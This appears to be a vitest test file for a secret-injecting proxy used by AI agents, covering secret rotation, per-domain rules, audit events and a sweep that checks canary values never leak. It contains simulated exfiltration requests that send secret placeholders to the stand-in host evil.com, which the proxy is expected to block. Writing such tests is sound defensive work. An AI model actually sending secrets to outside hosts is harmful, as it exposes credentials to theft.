// Rotation reaches the very next proxied request; proxy.injected / proxy.blocked audit; canary sweep.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ok } from '../agents/helpers.js';
import { leaks } from '../helpers/kit.js';
import { agentWith, header, readAll, send, tunnel, startWorld, type AgentFx, type Sent, type World } from './helpers.js';

let w: World;
let fx: AgentFx;
const values = new Set<string>();
const responses: Sent[] = [];
const canary = (tag: string) => {
  const v = `CNRY:${tag}/${Math.random().toString(36).slice(2, 10)}+${Date.now().toString(36)}`;
  values.add(v);
  return v;
};
const sendAll = async (...args: Parameters<typeof send>) => {
  const r = await send(...args);
  responses.push(r);
  return r;
};

beforeAll(async () => {
  w = await startWorld({ extraConnect: ['api.x.com:8443'] });
  fx = await agentWith(w.s, [
    { key: 'R', value: canary('rot'), allowed_domains: ['api.stripe.com', 'api.x.com:8443'], inject_in: ['header', 'body'] },
    { key: 'B', value: canary('blk'), allowed_domains: ['files.stripe.com'] },
  ]);
  w.up.routes.set('/echo', (q, res) => res.end(`got ${q.headers.authorization}`));
});
afterAll(() => w.close());
beforeEach(() => w.up.reset());

const patch = (id: string, body: Record<string, unknown>) => ok(w.s.call('PATCH', `/secrets/${id}`, { body }), 200);

describe('rotation', () => {
  it('20 × rotate → request: every request carries the value set just before it, and echoes of it are scrubbed', async () => {
    for (let i = 0; i < 20; i++) {
      const v = canary(`r${i}`);
      await patch(fx.ids.R!, { value: v });
      const r = await sendAll(w.s, fx, { path: '/echo', headers: { Authorization: `Bearer ${fx.ph.R}` } });
      expect(r.text).toBe(`got Bearer ${fx.ph.R}`);
      expect(header(w.up.requests[i]!, 'authorization'), `request ${i}`).toBe(`Bearer ${v}`);
    }
  });

  it('a keep-alive tunnel opened before the rotation uses the new value on its next request', async () => {
    const sock = await tunnel(w.s, fx, 'api.stripe.com:443');
    const req = `POST /k HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Length: 45\r\n\r\n${fx.ph.R}`;
    sock.write(req);
    await readAll(sock, 300);
    const v = canary('ka');
    await patch(fx.ids.R!, { value: v });
    sock.write(req);
    await readAll(sock, 300);
    sock.destroy();
    expect(w.up.requests.map((q) => q.body.toString())[1]).toBe(v);
  });

  it('a changed allowed_domains or inject_in applies to the next request; a deleted secret blocks', async () => {
    await patch(fx.ids.R!, { allowed_domains: ['files.stripe.com'] });
    expect((await sendAll(w.s, fx, { headers: { 'X-K': fx.ph.R } })).status).toBe(403);
    expect((await sendAll(w.s, fx, { authority: 'files.stripe.com:443', headers: { 'X-K': fx.ph.R } })).status).toBe(200);
    await patch(fx.ids.R!, { inject_in: ['body'] });
    expect((await sendAll(w.s, fx, { authority: 'files.stripe.com:443', headers: { 'X-K': fx.ph.R } })).status).toBe(403);
    await patch(fx.ids.R!, { allowed_domains: ['api.stripe.com', 'api.x.com:8443'], inject_in: ['header', 'body'] });
    expect(w.up.requests).toHaveLength(1);
  });
});

describe('audit', () => {
  it('proxy.injected names agent, secret, host (with a non-443 port) and surfaces', async () => {
    await sendAll(w.s, fx, { method: 'POST', headers: { Authorization: `Bearer ${fx.ph.R}` }, body: `x=${fx.ph.R}` });
    await sendAll(w.s, fx, { authority: 'api.x.com:8443', headers: { 'X-K': fx.ph.R } });
    const events = await ok(w.s.call('GET', '/audit?type=proxy.injected&limit=1000'), 200);
    const last = events.slice(-2);
    expect(last.map((e: any) => [e.type, e.agent_id, e.secret_id, e.details.host, [...e.details.surfaces].sort()])).toEqual([
      ['proxy.injected', fx.id, fx.ids.R, 'api.stripe.com', ['body', 'header']],
      ['proxy.injected', fx.id, fx.ids.R, 'api.x.com:8443', ['header']],
    ]);
    expect(last[0].actor).toBe(fx.id);
  });

  it('proxy.blocked names agent, host and reason (and the secret when known); proxy.* lists both kinds', async () => {
    await sendAll(w.s, fx, { authority: 'evil.com:443', headers: { Authorization: `Bearer ${fx.ph.B}` } });
    await sendAll(w.s, fx, { authority: 'evil.com:443', headers: { Authorization: `Bearer vgph_${'Z'.repeat(40)}` } });
    const events = await ok(w.s.call('GET', '/audit?type=proxy.*&limit=1000'), 200);
    expect(new Set(events.map((e: any) => e.type))).toEqual(new Set(['proxy.injected', 'proxy.blocked']));
    const blockedEvents = events.filter((e: any) => e.type === 'proxy.blocked').slice(-2);
    expect(blockedEvents.map((e: any) => [e.agent_id, e.secret_id, e.details.host, e.reason, e.outcome])).toEqual([
      [fx.id, fx.ids.B, 'evil.com', 'destination not allowed for this secret', 'denied'],
      [fx.id, null, 'evil.com', 'unknown placeholder', 'denied'],
    ]);
    expect((await ok(w.s.call('GET', '/audit/verify'), 200)).ok).toBe(true);
  });

  it('canary sweep: no value (raw, base64, hex, percent, JSON) in any audit record, log line or response to the agent', async () => {
    // One more of each kind, including the echo, a Basic credential and a blocked attempt.
    const echoed = await sendAll(w.s, fx, { path: '/echo', headers: { Authorization: `Basic ${Buffer.from(`u:${fx.ph.R}`).toString('base64')}` } });
    const blocked = await sendAll(w.s, fx, { authority: 'evil.com:443', method: 'POST', body: fx.ph.R });
    // The sweep looks at real traffic: the echo went through with a value injected, the other was blocked.
    expect([echoed.status, blocked.status]).toEqual([200, 403]);
    expect(w.up.requests).toHaveLength(1);
    expect([...values].map((v) => `Basic ${Buffer.from(`u:${v}`).toString('base64')}`)).toContain(header(w.up.requests[0]!, 'authorization'));
    expect(responses.filter((r) => r.status === 200).length).toBeGreaterThan(20);
    const audit = (await w.s.call('GET', '/audit?limit=1000')).text;
    const logs = w.s.logs.join('\n');
    const seenByAgent = Buffer.concat(responses.map((r) => Buffer.concat([Buffer.from(`${r.statusMessage}\n${r.rawHeaders.join('\n')}\n`), r.body])));
    const env = JSON.stringify((await w.s.call('GET', `${w.s.url}/api/agent/v1/environment`, { key: fx.token })).json);
    const found: string[] = [];
    for (const v of values) found.push(...leaks('audit', audit, v), ...leaks('logs', logs, v), ...leaks('agent responses', seenByAgent, v), ...leaks('environment', env, v));
    expect(found).toEqual([]);
    expect(values.size).toBeGreaterThan(20);
    expect(responses.length).toBeGreaterThan(25);
  });
});
